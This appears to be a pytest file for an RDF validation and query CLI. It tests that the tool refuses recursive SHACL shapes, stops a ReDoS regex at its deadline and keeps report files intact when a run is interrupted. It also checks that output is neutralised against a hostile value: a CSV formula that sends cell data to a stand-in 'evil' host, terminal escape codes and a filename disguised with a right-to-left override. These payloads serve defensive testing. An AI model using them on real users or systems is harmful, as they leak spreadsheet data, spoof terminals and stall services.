"""Clean refusals (issue 15, part 4): recursive shapes, runaway regular expressions.

Deadlines are checked as "stopped well before the work would end", never as timings of the
work itself: the catastrophic pattern below would run for hours.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from tests.attacks.conftest import cli, spawn

EVIL = "a" * 40 + "!"  # "^(a+)+$" backtracks 2**40 times on it in Python's re
DOSSIER = f"""@prefix sk: <https://w3id.org/sourcing-kg/def#> .
<https://example.org/d/redos> a sk:Dossier ; sk:naam "{EVIL}" .
"""
REDOS_SHAPES = """@prefix sh: <http://www.w3.org/ns/shacl#> .
@prefix sk: <https://w3id.org/sourcing-kg/def#> .
<urn:x:S> a sh:NodeShape ; sh:targetClass sk:Dossier ;
  sh:property [ sh:path sk:naam ; sh:pattern "^(a+)+$" ] .
"""
REDOS_QUERY = 'SELECT ?s WHERE { ?s ?p ?o FILTER(REGEX(STR(?o), "^(a+)+$")) }'

RECURSIVE = {
    "sh:node": "<urn:x:A> sh:node <urn:x:B> . <urn:x:B> sh:node <urn:x:A> .",
    "sh:property": "<urn:x:A> sh:property [ sh:path <urn:x:p> ; sh:node <urn:x:A> ] .",
    "sh:or": "<urn:x:A> sh:or ( [ sh:node <urn:x:A> ] ) .",
    "sh:not": "<urn:x:A> sh:not [ sh:not <urn:x:A> ] .",
}


@pytest.mark.parametrize("via", RECURSIVE)
def test_recursive_shapes_are_refused(via: str, tmp_path: Path) -> None:
    dossier = tmp_path / "d.ttl"
    dossier.write_text(DOSSIER.replace(EVIL, "x"))
    shapes = tmp_path / "recursive.ttl"
    shapes.write_text(
        "@prefix sh: <http://www.w3.org/ns/shacl#> .\n"
        "@prefix sk: <https://w3id.org/sourcing-kg/def#> .\n"
        f"<urn:x:A> a sh:NodeShape ; sh:targetClass sk:Dossier .\n{RECURSIVE[via]}\n"
    )
    result = cli("validate", dossier, "--shapes", shapes)
    assert result.code == 3, result.err
    assert f"{shapes}: recursive shapes are refused" in result.err


@pytest.mark.slow
def test_validation_deadline_holds_against_a_runaway_pattern(tmp_path: Path) -> None:
    dossier = tmp_path / "d.ttl"
    dossier.write_text(DOSSIER)
    shapes = tmp_path / "redos.ttl"
    shapes.write_text(REDOS_SHAPES)
    started = time.monotonic()
    # the reference engine: pySHACL matches sh:pattern with Python's backtracking re (the fast
    # engine's Oxigraph regex runs in linear time; a slow compile once hid that here)
    result = cli("validate", dossier, "--shapes", shapes, "--timeout", "5", "--engine", "pyshacl")
    assert result.code == 6, result.err
    assert "deadline of 5 s" in result.err
    assert time.monotonic() - started < 120  # stopped, not hours later


def test_a_run_stopped_at_its_deadline_leaves_the_report_file_as_it_was(tmp_path: Path) -> None:
    """The report is written into a file beside -o while the run goes on; stopped, the run
    leaves neither a changed -o nor that file behind."""
    dossier = tmp_path / "d.ttl"
    dossier.write_text(DOSSIER)
    shapes = tmp_path / "redos.ttl"
    shapes.write_text(REDOS_SHAPES)
    out = tmp_path / "reports"
    out.mkdir()
    target = out / "report.json"
    target.write_bytes(b"yesterday's report\n")
    result = cli(
        "validate", dossier, "--shapes", shapes, "--timeout", "2", "--engine", "pyshacl",
        "-o", target,
    )  # fmt: skip
    assert result.code == 6, result.err
    assert target.read_bytes() == b"yesterday's report\n"
    assert [p.name for p in out.iterdir()] == ["report.json"]


def test_a_run_terminated_leaves_the_report_file_as_it_was(tmp_path: Path) -> None:
    """SIGTERM (a cancelled CI job) while the report file is open beside -o: the command
    unwinds and exits 143, -o as it was, no temporary file left."""
    import signal

    dossier = tmp_path / "d.ttl"
    dossier.write_text(DOSSIER)
    shapes = tmp_path / "redos.ttl"
    shapes.write_text(REDOS_SHAPES)
    out = tmp_path / "reports"
    out.mkdir()
    target = out / "report.json"
    target.write_bytes(b"yesterday's report\n")
    child = spawn(
        ["validate", dossier, "--shapes", shapes, "--engine", "pyshacl", "--timeout", "120",
         "-o", target]
    )  # fmt: skip
    try:
        started = time.monotonic()
        while len(list(out.iterdir())) < 2 and time.monotonic() - started < 60:
            time.sleep(0.05)  # until the report file beside -o is open
        assert len(list(out.iterdir())) == 2, "no report file was opened beside -o"
        child.send_signal(signal.SIGTERM)
        child.communicate(timeout=60)
    finally:
        child.kill()
    assert child.returncode == 128 + signal.SIGTERM
    assert target.read_bytes() == b"yesterday's report\n"
    assert [p.name for p in out.iterdir()] == ["report.json"]


def test_a_report_that_cannot_be_written_is_the_users_error_naming_the_file(
    tmp_path: Path, dossiers: Path
) -> None:
    """A file size limit (as a full disk) while the report is written: exit 2, -o named."""
    import resource

    target = tmp_path / "report.json"

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    child = spawn(
        ["validate", dossiers / "violation.ttl", "--format", "json", "-o", target],
        preexec_fn=limited,
    )
    _, err = child.communicate(timeout=120)
    assert child.returncode == 2, err
    assert f"cannot write -o {target}" in err and "internal error" not in err
    assert not target.exists() and list(tmp_path.iterdir()) == []


def test_the_fast_engine_judges_a_runaway_pattern(tmp_path: Path) -> None:
    """Oxigraph's regular expressions do not backtrack: the same pattern is simply judged."""
    dossier = tmp_path / "d.ttl"
    dossier.write_text(DOSSIER)
    shapes = tmp_path / "redos.ttl"
    shapes.write_text(REDOS_SHAPES)
    result = cli("validate", dossier, "--shapes", shapes, "--timeout", "60", "--format", "json")
    assert result.code == 1, result.err
    paths = [r["resultPath"] for r in json.loads(result.out)["results"]]
    assert "https://w3id.org/sourcing-kg/def#naam" in paths


@pytest.mark.slow
def test_query_deadline_holds_against_a_runaway_regex(tmp_path: Path) -> None:
    data = tmp_path / "d.ttl"
    data.write_text(DOSSIER)
    query = tmp_path / "redos.rq"
    query.write_text(REDOS_QUERY)
    started = time.monotonic()
    result = cli("query", query, "--data", data, "--timeout", "3")
    assert result.code == 6, result.err
    assert "deadline of 3 s" in result.err
    assert time.monotonic() - started < 60


HOSTILE_NAME = '=HYPERLINK("http://evil/"&A1)\x1b[2J\x1b]0;pwned\x07\u202egnp.exe'


def test_outputs_are_neutralised_for_their_medium(tmp_path: Path) -> None:
    data = tmp_path / "d.ttl"
    data.write_text(
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        f"<urn:x:a> rdfs:label {json_string(HOSTILE_NAME)} .\n"
    )
    query = tmp_path / "q.rq"
    query.write_text(
        "SELECT ?naam WHERE { <urn:x:a> <http://www.w3.org/2000/01/rdf-schema#label> ?naam }"
    )
    csv_out = cli("query", query, "--data", data, "--format", "csv")
    assert csv_out.code == 0, csv_out.err
    cell = csv_out.out.splitlines()[1]
    assert cell.lstrip('"').startswith("'=HYPERLINK")  # a text, never a formula
    for fmt in ("csv", "table", "md", "json"):
        shown = cli("query", query, "--data", data, "--format", fmt).out
        assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown, fmt
        assert "x1b" in shown or fmt == "json", fmt
    markdown = cli("query", query, "--data", data, "--format", "md").out
    assert '\\(\\"' not in markdown and "=HYPERLINK" in markdown


def json_string(text: str) -> str:
    import json

    return json.dumps(text)


#: What a terminal would obey in a value: C0 (escape, bell), DEL, C1, a bidirectional override
OBEYED = "fase\x1b[2J\x07\x7f\x85\u202egnp.exe"


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_a_json_report_on_stdout_is_valid_json_a_terminal_shows_as_it_is(
    fmt: str, tmp_path: Path
) -> None:
    """JSON escapes every character a terminal would obey, so the report is written past the
    terminal's neutralising (whose ``\\x7f`` made the report invalid JSON) and keeps the value."""
    from sourcing_kg.render.neutral import terminal

    dossier = tmp_path / "d.ttl"
    dossier.write_text(
        "@prefix sk: <https://w3id.org/sourcing-kg/def#> .\n"
        f"<https://example.org/d> a sk:Dossier ; sk:fase {json_string(OBEYED)} .\n"
    )
    result = cli("validate", dossier, "--format", fmt)
    assert result.code == 1, result.err
    assert terminal(result.out) == result.out
    assert all(ch not in result.out for ch in "\x1b\x07\x7f\x85\u202e")
    document = json.loads(result.out)
    if fmt == "json":  # SARIF names no values
        assert OBEYED in {finding["value"] for finding in document["results"]}


def test_a_query_answer_in_json_on_stdout_is_valid_json_that_keeps_the_value(
    tmp_path: Path,
) -> None:
    from sourcing_kg.render.neutral import terminal

    data = tmp_path / "d.ttl"
    data.write_text(f"<urn:x:a> <urn:x:naam> {json_string(OBEYED)} .\n")
    query = tmp_path / "q.rq"
    query.write_text("SELECT ?naam WHERE { <urn:x:a> <urn:x:naam> ?naam }")
    result = cli("query", query, "--data", data, "--format", "json")
    assert result.code == 0, result.err
    assert terminal(result.out) == result.out
    [row] = json.loads(result.out)["results"]["bindings"]
    assert row["naam"]["value"] == OBEYED


@pytest.mark.parametrize("table", [False, True], ids=["one dossier", "table"])
def test_status_in_json_on_stdout_is_valid_json_that_keeps_the_file_name(
    table: bool, tmp_path: Path
) -> None:
    """The file name is in the status; a name may hold what a terminal obeys (Linux allows all
    but ``/``): written as JSON escapes, not the terminal's ``\\x7f``, which is no JSON."""
    from sourcing_kg.render.neutral import terminal

    folder = tmp_path / "dossiers"
    folder.mkdir()
    dossier = folder / f"d{OBEYED}.ttl"
    dossier.write_text(
        "@prefix sk: <https://w3id.org/sourcing-kg/def#> .\n"
        "<https://example.org/d> a sk:Dossier .\n"
    )
    result = cli("status", folder if table else dossier, "--format", "json")
    assert result.code == 0, result.err
    assert terminal(result.out) == result.out
    document = json.loads(result.out)
    rows = document if table else [document]
    assert [Path(row["file"]).name for row in rows] == [dossier.name]
